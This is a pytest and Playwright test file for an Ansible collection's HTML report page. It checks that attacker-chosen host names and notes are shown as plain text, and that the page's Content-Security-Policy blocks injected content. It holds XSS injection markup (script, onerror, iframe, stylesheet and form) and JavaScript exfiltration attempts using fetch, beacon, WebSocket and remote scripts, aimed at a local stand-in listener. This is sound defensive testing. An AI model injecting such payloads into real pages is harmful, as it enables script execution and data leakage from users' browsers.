# SPDX-FileCopyrightText: fleetcare.esxi contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Host names, notes and reasons are chosen by others: the page shows them and does nothing that they say."""

from __future__ import annotations

import http.server
import json
import pathlib
import re
import threading
from typing import Any

import jsonschema
import pytest
from playwright.sync_api import Browser, Page

from ansible_collections.fleetcare.esxi.plugins.plugin_utils.report_page import page as page_of
from tests.browser import reading
from tests.browser.conftest import View
from tests.reports import hostile
from tests.reports.samples import SCHEMA, sample

# A browser takes no page with these in a file of UTF-8; the page shows a sign in their place.
UNFIT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]")


def sick() -> dict[str, Any]:
    report = sample(9, 7, sick=0.9, endpoints=2, seed=5)
    report["endpoints"][0]["failure"] = {"kind": "LoginRefused", "cause": "c", "hint": "h", "message": "m"}
    return report


def elements(page: Page) -> dict[str, int]:
    """How many of each element, and which attributes occur: what a text that became HTML would change."""
    return page.evaluate(
        """() => { const found = {};
          for (const each of document.querySelectorAll('*')) {
            found[each.tagName] = (found[each.tagName] ?? 0) + 1;
            for (const name of each.getAttributeNames()) found['@' + name] = (found['@' + name] ?? 0) + 1;
          }
          return found; }"""
    )


def walk_through(page: Page) -> None:
    for details in page.locator("details summary").all():
        details.evaluate("(each) => { each.parentElement.open = true; }")
    page.locator("#chart-cluster button").first.click()
    page.get_by_role("button", name="Clear filters").click()
    drawn = page.locator("#chart-feature svg [data-mark=bar] rect").first
    drawn.hover()
    reading.settle(page)


# Each by itself is seen to become nothing in the unit tests; here they come together, in two orders, and what scripts trip over.
TOGETHER = {"forth": "".join(hostile.ATTACKS), "back": "".join(reversed(hostile.ATTACKS)), "proto": "__proto__", "surrogate": "\ud800"}


@pytest.mark.parametrize("attack", TOGETHER.values(), ids=TOGETHER)
def test_hostile_texts_are_shown_and_do_nothing(view: View, attack: str) -> None:
    report = hostile.attacked(sick(), attack)
    jsonschema.validate(report, SCHEMA)
    page = view(report)
    walk_through(page)
    assert page.evaluate("typeof window.hit") == "undefined" and page.locator("#hit").count() == 0
    names = page.evaluate("[...document.querySelectorAll('.findings .target')].map((each) => each.textContent)")
    wanted = {row.part["name"] for row in reading.rows(report)}
    assert {UNFIT.sub("?", each) for each in names} == {UNFIT.sub("?", each) for each in wanted}
    assert reading.told(page) == len(reading.rows(report))
    found = elements(page)
    assert not {"IMG", "IFRAME", "OBJECT", "TEXTAREA"} & found.keys()
    assert not [name for name in found if name.startswith("@on")]
    # Filters by such a name work, and the address takes it.
    page.locator("#filter-cluster").select_option(index=1)
    reading.settle(page)
    cluster = page.locator("#filter-cluster").input_value()
    assert (
        0
        < reading.told(page)
        == sum((row.part.get("cluster") or "(none)") == cluster for row in reading.rows(report) if row.kind != "endpoint")
    )


class Listener(http.server.BaseHTTPRequestHandler):
    """Whatever gets out of a page arrives here."""

    heard: list[str] = []

    def _hear(self) -> None:
        self.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = do_HEAD = do_OPTIONS = _hear

    def log_message(self, *_about: object) -> None:
        pass


GOT_IN = """<main id="main"><script>window.hit = 'script'</script><img src="ADDRESS/img" onerror="window.hit = 'img'">
<iframe src="ADDRESS/iframe"></iframe><link rel="stylesheet" href="ADDRESS/css"><style>body { background: url(ADDRESS/url) }</style>
<form id="leak" action="ADDRESS/form" target="_blank"><button></button></form>"""
ATTEMPTS = """async (address) => {
  const attempts = [
    () => fetch(address + '/fetch'),
    () => { const x = new XMLHttpRequest(); x.open('GET', address + '/xhr'); x.send(); },
    () => navigator.sendBeacon(address + '/beacon', 'x'),
    () => new WebSocket(address.replace('http', 'ws') + '/socket'),
    () => document.getElementById('leak').submit(),
    () => { const s = document.createElement('script'); s.textContent = "window.hit = 'late'"; document.body.append(s); },
    () => { const s = document.createElement('script'); s.src = address + '/script'; document.body.append(s); },
  ];
  for (const attempt of attempts) { try { await attempt(); } catch { } }
  await new Promise((done) => setTimeout(done, 300));
}"""


@pytest.mark.parametrize("policy", [True, False], ids=["with", "without"])
def test_the_policy_holds_even_if_the_escaping_did_not(chromium: Browser, tmp_path: pathlib.Path, policy: bool) -> None:
    """As if an attack had got in: what it starts does not run, and nothing leaves the page. Without the policy all of it does."""
    Listener.heard = []
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{server.server_port}"
        text = page_of(sample(3, 3)).replace('<main id="main">', GOT_IN.replace("ADDRESS", address))
        if not policy:
            text = text.replace('http-equiv="Content-Security-Policy"', "")
        file = tmp_path / "broken.html"
        file.write_text(text, encoding="utf-8")
        context = chromium.new_context()
        try:
            page = context.new_page()
            page.goto(file.as_uri())
            page.wait_for_selector("html[data-drawn]")
            page.evaluate(ATTEMPTS, address)
            hit = page.evaluate("window.hit ?? null")
        finally:
            context.close()
            server.shutdown()
    heard = {path.split("?")[0] for path in Listener.heard}
    if policy:
        assert hit is None and not heard
    else:
        assert hit == "late" and heard >= {"/img", "/iframe", "/css", "/url", "/fetch", "/xhr", "/socket", "/form", "/script"}


def test_the_page_of_hostile_texts_is_as_large_as_another(view: View) -> None:
    """The same elements with the same attributes: no text made or removed one."""
    plain, attacked = (elements(view(each)) for each in (sick(), hostile.attacked(sick(), "<b x=1>")))
    # Bars are as long as their numbers, and cut texts carry what they are cut from.
    assert plain == attacked, json.dumps(
        {key: (plain.get(key), attacked.get(key)) for key in plain | attacked if plain.get(key) != attacked.get(key)}
    )
